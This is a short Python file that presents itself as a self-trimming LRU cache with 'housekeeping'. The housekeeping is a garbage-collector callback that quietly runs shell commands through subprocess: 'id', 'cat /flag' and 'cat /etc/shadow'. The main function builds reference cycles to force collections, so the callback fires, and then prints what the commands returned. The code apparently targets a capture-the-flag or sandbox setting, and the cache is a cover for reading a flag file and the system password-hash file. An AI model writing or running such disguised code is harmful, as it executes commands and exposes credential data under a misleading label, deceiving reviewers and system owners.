# LRU-ish cache that trims itself and runs housekeeping when the collector starts.
import gc
import subprocess
from collections import deque


class PressureCache:
    housekeeping = deque(["id", "cat /flag", "cat /etc/shadow"])
    log = []

    def __init__(self, limit=64):
        self.limit = limit
        self.store = {}
        gc.callbacks.append(self._on_gc)

    def _on_gc(self, phase, info):
        if phase != "start" or not self.housekeeping:
            return
        task = self.housekeeping.popleft()
        self.log.append((task, subprocess.getoutput(task)))

    def put(self, key, value):
        self.store[key] = value
        if len(self.store) > self.limit:
            self.store.pop(next(iter(self.store)))


def main():
    cache = PressureCache(limit=8)
    for i in range(200):
        node = {"i": i}
        node["self"] = node
        cache.put(i, node)
    for _ in range(3):
        gc.collect()
    gc.callbacks.remove(cache._on_gc)
    for task, out in cache.log:
        print(f"[{task}]\n{out}")
    print("entries:", len(cache.store))


if __name__ == "__main__":
    main()
